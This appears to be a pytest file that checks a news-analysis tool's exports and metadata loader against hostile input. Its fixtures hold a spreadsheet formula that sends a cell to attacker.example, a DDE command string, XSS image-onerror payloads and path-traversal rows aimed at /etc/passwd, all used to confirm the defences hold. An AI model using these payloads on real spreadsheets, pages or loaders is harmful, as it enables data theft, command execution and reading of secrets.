"""Exports on a hostile corpus: what `newsexplore extract` writes is safe to open in a spreadsheet (no formula runs),
in TimelineJS (no script runs, checked in TimelineJS's own page in headless Chromium) and in Gephi (well-formed XML);
and a metadata sidecar never makes the loader read a file outside the corpus folder.

The TimelineJS test needs Debian's Chromium (/usr/bin/chromium), the `playwright` package and TimelineJS's files
from the npm package `@knight-lab/timelinejs`, which `.ci/setup` puts in `.ci/vendor/`; it fails, never skips,
when one is missing.
"""
import html, json, os, re, sys, xml.etree.ElementTree as ET
from urllib.parse import urlsplit
from pathlib import Path

import networkx as nx
import polars as pl
import pytest

from newsexplore.cli import FORMULA_START, main
from newsexplore.comention import write_graph
from newsexplore.load import load_articles

ROOT = Path(__file__).resolve().parents[1]
TIMELINEJS = ROOT/'.ci'/'vendor'/'timelinejs'  # the npm package @knight-lab/timelinejs, put there by .ci/setup
CHROMIUM = Path(os.environ.get('NEWSEXPLORE_CHROMIUM', '/usr/bin/chromium'))
FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'
BLINKEN = '<img src=x onerror="window.__pwned=1">'        # an actor renamed to markup (the aliases file)
NETANYAHU = '=cmd|\' /C calc\'!A0 <img src=y onerror="window.__pwned=2">\x07'  # a formula, markup, a control character
STORY = (f'{FORMULA}\n\n'
         '+Antony Blinken met Benjamin Netanyahu in Jerusalem on Monday, August 19, 2024.\n\n'
         '-Benjamin Netanyahu said Antony Blinken would return to Israel on Tuesday.\n\n'
         '@Antony Blinken and Benjamin Netanyahu spoke again on August 20, 2024.\n')


@pytest.fixture(scope='module')
def extracted(tmp_path_factory):
    "The folder `newsexplore extract` wrote for a hostile corpus (a title that is a formula; actors renamed to markup)."
    tmp = tmp_path_factory.mktemp('hostile')
    (tmp/'data').mkdir()
    (tmp/'data'/'evil.txt').write_text(STORY)
    (tmp/'data'/'metadata.csv').write_text('file,source,byline\nevil.txt,"@SUM(1+1)*cmd|\' /C calc\'!A0","=1+2"\n')
    pl.DataFrame({'action': ['rename', 'rename'], 'name': ['Antony Blinken', 'Benjamin Netanyahu'],
                  'target': [BLINKEN, NETANYAHU]}).write_csv(tmp/'aliases.csv')
    assert (
        main(
            [
                'extract',
                str(tmp / 'data'),
                '-o',
                str(tmp / 'out'),
                '--aliases',
                str(tmp / 'aliases.csv'),
                '--anchor',
                '2024-08-21',
                '--cache-dir',
                str(tmp / 'cache'),
                '--window',
                'sentence',
                '--no-progress',
            ]
        )
        == 0
    )
    return tmp/'out'


# 1. CSV: no cell a spreadsheet would run; Parquet keeps the exact text; numbers stay numbers

NUMBER = re.compile(r'[-+]?\d+(\.\d+)?([eE][-+]?\d+)?')


def formula_cells(df: pl.DataFrame) -> list:
    "The cells a spreadsheet would run: those starting with = + - @ tab or CR, but for plain numbers (-1 is a number)."
    return [(c, v) for c in df.columns for v in df[c].drop_nulls()
            if v[:1] in set(FORMULA_START) and not NUMBER.fullmatch(v)]


def test_every_csv_is_safe_in_a_spreadsheet_and_parquet_is_exact(extracted):
    csvs = sorted(extracted.glob('*.csv'))
    assert {p.stem for p in csvs} >= {'articles', 'paragraphs', 'problems', 'sentences', 'mentions', 'actors', 'dates',
                                      'timeline', 'comentions_sentence'}
    for path in csvs:
        text = pl.read_csv(path, infer_schema=False)  # every cell as the text a spreadsheet is given
        assert formula_cells(text) == [], path.name
    exact = pl.read_parquet(extracted/'articles.parquet').row(0, named=True)
    assert (exact['title'], exact['source'], exact['byline']) == (FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", '=1+2')
    shown = pl.read_csv(extracted/'articles.csv').row(0, named=True)
    assert (shown['title'], shown['source'], shown['byline']) == ("'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0",
                                                                  "'=1+2")
    paragraphs = pl.read_csv(extracted/'paragraphs.csv', infer_schema=False)['text'].to_list()
    assert "'" + FORMULA in paragraphs
    assert "'+Antony Blinken met Benjamin Netanyahu in Jerusalem on Monday, August 19, 2024." in paragraphs
    actors = pl.read_parquet(extracted/'actors.parquet')['actor'].to_list()
    assert BLINKEN in actors and NETANYAHU in actors  # the renames took, exactly
    assert "'" + NETANYAHU in pl.read_csv(extracted/'actors.csv')['actor'].to_list()
    # numbers stay numbers: the CSV's numeric columns read back as numbers, equal to the Parquet's
    for name in ('articles', 'actors', 'mentions'):
        parquet, csv = pl.read_parquet(extracted/f'{name}.parquet'), pl.read_csv(extracted/f'{name}.csv')
        numeric = [c for c, t in parquet.schema.items() if t.is_numeric() and parquet[c].null_count() < len(parquet)]
        assert numeric and all(csv[c].dtype.is_numeric() for c in numeric), name
        assert csv.select(numeric).to_dicts() == parquet.select(numeric).to_dicts(), name



def test_the_out_of_core_extract_writes_safe_csv_too(extracted):
    tmp = extracted.parent  # the hostile corpus, its aliases and its extraction cache
    assert (
        main(
            [
                'extract',
                str(tmp / 'data'),
                '-o',
                str(tmp / 'parts'),
                '--parts',
                '1',
                '--aliases',
                str(tmp / 'aliases.csv'),
                '--anchor',
                '2024-08-21',
                '--cache-dir',
                str(tmp / 'cache'),
                '--window',
                'sentence',
                '--no-progress',
            ]
        )
        == 0
    )
    pairs = pl.read_csv(tmp/'parts'/'comentions_sentence.csv', infer_schema=False)
    assert formula_cells(pairs) == [] and "'" + NETANYAHU in pairs['a'].to_list() + pairs['b'].to_list()

# 2. TimelineJS: the exported timeline shown in TimelineJS's own page runs no script from the data

ORIGIN = 'http://timeline.test'  # never resolved: every request to it is answered from files, every other one blocked


@pytest.fixture(scope='module')
def browser():
    "Headless Debian Chromium, driven by Playwright (no browser is downloaded)."
    if not (TIMELINEJS/'dist'/'embed'/'index.html').is_file():
        pytest.fail(f'TimelineJS is missing from {TIMELINEJS}: run `bash .ci/setup` '
                    '(it fetches the npm package @knight-lab/timelinejs).')
    if not CHROMIUM.exists():
        pytest.fail(f"No Chromium at {CHROMIUM}: run `bash .ci/setup` as root (it installs Debian's chromium).")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        pytest.fail('Playwright is not installed: run `bash .ci/setup` (playwright is a dev requirement).')
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=['--no-sandbox', '--disable-gpu'],
                              timeout=60_000)
        yield b
        b.close()


def show_in_timelinejs(browser, doc: dict) -> dict:
    "Open `doc` in TimelineJS's embed page; what it drew, whether a script from the data ran, and the requests blocked."
    blocked, errors = [], []
    page = browser.new_page(viewport={'width': 1200, 'height': 800})
    def answer(route):
        url = urlsplit(route.request.url)
        if f'{url.scheme}://{url.netloc}' != ORIGIN:
            blocked.append(route.request.url); return route.abort()
        if url.path == '/timeline.json':
            return route.fulfill(body=json.dumps(doc), content_type='application/json')
        file = TIMELINEJS/'dist'/url.path.removeprefix('/timelinejs/')
        if url.path.startswith('/timelinejs/') and file.is_file(): return route.fulfill(path=file)
        route.fulfill(status=404, body='not found')  # e.g. an <img src=x> from the data
    page.route('**/*', answer)
    page.on('pageerror', lambda e: errors.append(str(e)))
    try:
        page.goto(f'{ORIGIN}/timelinejs/embed/index.html?source={ORIGIN}/timeline.json', timeout=60_000)
        page.locator('.tl-timemarker').nth(len(doc['events']) - 1).wait_for(state='attached', timeout=30_000)
        page.wait_for_load_state('networkidle')
        page.wait_for_timeout(500)  # an onerror handler runs just after its image fails
        return dict(pwned=page.evaluate('window.__pwned'), markers=page.locator('.tl-timemarker').count(),
                    groups=sorted(page.locator('.tl-timegroup-message').all_text_contents()),
                    headlines=page.locator('.tl-slide .tl-headline').all_text_contents(),
                    blocked=blocked, errors=errors)
    finally:
        page.close()


def test_timelinejs_runs_no_script_from_the_data(extracted, browser):
    doc = json.loads((extracted/'timeline.json').read_text())
    groups = {e['group'] for e in doc['events'] if 'group' in e}
    assert len(doc['events']) >= 2 and groups
    shown = show_in_timelinejs(browser, doc)
    assert shown['pwned'] is None, shown
    assert shown['markers'] == len(doc['events']) and shown['errors'] == [], shown  # every event drawn
    clean = lambda s: re.sub('[\x00-\x1f]', '', s)
    labels = {clean(html.unescape(html.unescape(g))) for g in groups}  # the actors' names, as they are
    assert {clean(g) for g in shown['groups']} == labels, shown  # the group labels show the names as text
    assert labels & {BLINKEN, clean(NETANYAHU)}
    assert any('Antony Blinken met Benjamin Netanyahu' in h for h in shown['headlines'])  # a summary sentence, as text
    # the check can fail: a group label escaped only once (as headlines are) runs its script in this TimelineJS
    once = {**doc, 'events': [{**e, 'group': html.unescape(e['group'])} if 'group' in e else e
                              for e in doc['events']]}
    assert show_in_timelinejs(browser, once)['pwned'] in (1, 2)


# 3. GraphML and GEXF: characters XML 1.0 forbids never break the file

CONTROL = ''.join(map(chr, [*range(0, 9), 0x0b, 0x0c, *range(0x0e, 0x20), 0xfffe, 0xffff]))


def test_graph_files_with_control_characters_parse_back(tmp_path):
    g = nx.Graph()
    g.add_node(f'A{CONTROL}1', label=f'Ann{CONTROL} <Lee> & "Co"', kind='PERSON', n_mentions=3)
    g.add_node('B\x0c2', label='\x00Bob\ud800', kind='ORG', n_mentions=1)
    g.add_edge(f'A{CONTROL}1', 'B\x0c2', weight=2, evidence=f'said\x1b[31m so{CONTROL}')
    for suffix, read in (('graphml', nx.read_graphml), ('gexf', nx.read_gexf)):
        path = write_graph(g, tmp_path/f'g.{suffix}')
        ET.parse(path)  # a strict XML 1.0 parser accepts it
        back = read(path)
        labels = dict(back.nodes(data='label'))
        assert sorted(labels.values()) == ['Ann <Lee> & "Co"', 'Bob'], suffix
        assert [d.get('evidence') for *_, d in back.edges(data=True)] == ['said[31m so'], suffix


def test_extracted_graphs_of_a_hostile_corpus_parse_back(extracted):
    for suffix, read in (('graphml', nx.read_graphml), ('gexf', nx.read_gexf)):
        ET.parse(extracted/f'comentions.{suffix}')
        labels = set(dict(read(extracted/f'comentions.{suffix}').nodes(data='label')).values())
        # markup kept as text, control character dropped
        assert {BLINKEN, NETANYAHU.replace('\x07', '')} <= labels, suffix


# 4. Paths: a sidecar row naming a file outside the corpus folder is refused with its reason, and that file never opened

OPENED = []  # what the process opens while `watching` holds True (an audit hook cannot be removed, so it is switched)
watching = [False]
def _record_opens(event, args):
    if watching[0] and event == 'open' and isinstance(args[0], (str, bytes, os.PathLike)):
        OPENED.append(os.fsdecode(args[0]))
sys.addaudithook(_record_opens)


@pytest.mark.parametrize('sidecar', ['metadata.csv', 'metadata.json'])
def test_sidecar_rows_outside_the_corpus_are_refused_and_never_read(tmp_path, sidecar):
    corpus, secret = tmp_path/'corpus'/'data', tmp_path/'secret'
    corpus.mkdir(parents=True); secret.mkdir()
    (corpus/'a.txt').write_text('Story A\n\nAntony Blinken arrived in Doha.\n')
    (secret/'passwd.txt').write_text('root:x:0:0\n')
    (corpus/'link.dat').symlink_to(secret/'passwd.txt')  # not an input type, so only the sidecar could lead to it
    rows = {'../../secret/passwd.txt': 'climbed', '../../../../../../../../etc/passwd': 'climbed far',
            '/etc/passwd': 'absolute', str(secret/'passwd.txt'): 'absolute elsewhere', 'link.dat': 'symbolic link',
            'a.txt': 'Desk'}
    if sidecar.endswith('.csv'):
        pl.DataFrame({'path': list(rows), 'source': list(rows.values())}).write_csv(corpus/sidecar)
    else: (corpus/sidecar).write_text(json.dumps([{'file': k, 'source': v} for k, v in rows.items()]))
    OPENED.clear(); watching[0] = True
    try: articles, _, problems = load_articles(tmp_path/'corpus')
    finally: watching[0] = False
    assert articles['source'].to_list() == ['Desk']  # the one row inside the folder applies
    prefix = 'sidecar metadata names a file outside its folder: '
    refused = problems.filter(pl.col('path').str.ends_with(sidecar)).select('path', 'severity', 'reason').rows()
    assert refused == [(str(corpus/sidecar), 'warning', prefix + why) for why in (
        '../../secret/passwd.txt; ignored', '../../../../../../../../etc/passwd; ignored',
        '/etc/passwd (an absolute path elsewhere); ignored',
        f'{secret}/passwd.txt (an absolute path elsewhere); ignored',
        'link.dat (a symbolic link to a file outside it); ignored')]
    assert str(corpus/'a.txt') in OPENED and str(corpus/sidecar) in OPENED  # the hook sees what the loader opens ...
    never = {'/etc/passwd', str(secret/'passwd.txt'), str(corpus/'link.dat')}
    never |= {str(Path(n).resolve()) for n in never}
    assert [p for p in OPENED if p in never or str(Path(p).resolve()) in never] == []  # ... and not these


# 5. The report says which curation it reflects, and a curation in the explorer reaches it at once (issue 18)

def top_actors(page: str) -> list[str]:
    "The actors the report's 'Top actors' table lists, in order."
    section = re.search(r'<section id="actors">(.*?)</section>', page, re.S).group(1)
    return re.findall(r'<tr><td[^>]*>(.*?)</td>', section)


def test_report_reflects_a_curation_made_in_the_explorer(tmp_path):
    from newsexplore import Corpus
    from newsexplore.report import write_report
    aliases = tmp_path / 'aliases.csv'
    corpus = Corpus.from_folder(ROOT / 'data', aliases=aliases)
    before = write_report(corpus, tmp_path / 'before.html')
    page = (tmp_path / 'before.html').read_text()
    assert f'no curation yet ({aliases} does not exist)' in page and 'Israeli' in top_actors(page)
    ax = corpus.explore_actors()
    ax.select('Israeli'); ax.merge_into.value = 'Israel'; ax.merge_b.click()
    corpus.write_report(tmp_path / 'after.html')  # the same corpus object: no reload
    page = (tmp_path / 'after.html').read_text()
    assert f'Actors curated by 1 rule of {aliases}, written ' in page
    assert 'Israeli' not in top_actors(page) and top_actors(page)[0] == 'Israel'
    assert all(s.error is None for s in before)


# 6. IDEs see every member of Corpus and Dataset: the stubs are what the code makes

def test_type_stubs_are_current():
    import subprocess
    done = subprocess.run([sys.executable, str(ROOT / '.ci' / 'stubs.py'), '--check'], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr


def test_key_date_evidence_names_no_missing_or_repeated_source():
    "The story timeline's evidence line skips a missing source ('None') and one already in the article's name."
    import jinja2
    from datetime import date
    from newsexplore.report import KEYDATES_TEMPLATE
    said = [dict(sentence='A', title='Reuters #244', source='Reuters', published=date(2010, 6, 2)),
            dict(sentence='B', title='notes.json #28', source=None, published=date(2010, 6, 10))]
    day = dict(date=date(2010, 6, 1), date_end=date(2010, 6, 1), n_articles=2, n_sources=1, n_later=0, sentences=said)
    page = jinja2.Environment(autoescape=True).from_string(KEYDATES_TEMPLATE).render(note='', dates=[day])
    assert 'Reuters #244 · 2010-06-02' in page and 'notes.json #28 · 2010-06-10' in page
    assert 'None' not in page and 'Reuters #244 · Reuters' not in page
